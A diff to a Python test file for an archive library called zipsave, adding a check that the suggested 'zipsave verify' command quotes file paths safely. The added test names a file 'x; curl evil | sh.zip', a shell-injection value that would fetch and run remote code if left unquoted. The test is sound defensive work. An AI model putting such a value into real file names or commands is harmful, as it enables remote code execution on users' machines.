@@ -482,6 +482,12 @@ def test_a_damaged_record_header_is_named_damage_by_read_and_inspect(tmp_path, c
     out = capsys.readouterr().out
     assert "`model.pth`: is damaged (damaged record header)" in out and "zipsave verify" in out
     assert zipsave.inspect(bad).verified is False
+    # the command to paste quotes the path for the shell (a downloaded file may be named anything)
+    odd = tmp_path / "x; curl evil | sh.zip"
+    odd.write_bytes(bytes(payload))
+    with pytest.raises(zipsave.IntegrityError) as raised:
+        zipsave.read(odd, "model/weight")
+    assert f"Run `zipsave verify '{odd}'`" in str(raised.value)
 
 
 def test_a_truncated_archive_quotes_no_offset_of_a_nested_end_record(tmp_path):
